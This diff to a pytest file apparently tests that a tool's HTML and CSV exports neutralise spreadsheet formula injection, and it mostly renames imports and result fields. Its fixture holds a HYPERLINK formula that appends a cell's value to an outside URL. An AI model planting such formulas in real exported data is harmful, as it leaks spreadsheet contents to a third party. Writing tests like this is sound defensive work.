@@ -8,7 +8,7 @@ from pathlib import Path
 
 import pytest
 import small_project
-from command import build, run
+from commands import pack_of, run
 
 FORMULAS = (
     '=HYPERLINK("http://example.com/?"&A1,"click")',
@@ -31,7 +31,7 @@ def pack(tmp_path_factory: pytest.TempPathFactory) -> Path:
     data = small_project.rows("A", lambda table, column: f"=1+{table}" if column in ("service", "name") else column)
     for row, formula in zip(data["tickets"], cycle(FORMULAS)):
         row["title"], row["id"] = formula, f"={row['id']}"
-    return build(small_project.write(folder, [small_project.account_file("A", notes={})], data), "--format", "html")
+    return pack_of(small_project.write(folder, [small_project.account_file("A", notes={})], data), "--format", "html")
 
 
 def cells(path: Path) -> list[str]:
@@ -70,6 +70,6 @@ def test_f30_what_the_command_prints_is_safe_too(pack: Path) -> None:
     project = pack.parents[2]
     asked = (project, "--account", "A", "--period", "2026-10", "--format", "csv")
     for printed in (run("figures", *asked), run("explain", "tickets.opened", *asked)):
-        assert printed.exit_code == 0, printed.output
-        found = [cell for row in csv.reader(printed.stdout.splitlines()) for cell in row]
+        assert printed.code == 0, printed.said
+        found = [cell for row in csv.reader(printed.out.splitlines()) for cell in row]
         assert [cell for cell in found if cell.startswith(tuple("=+-@")) and not is_number(cell)] == []
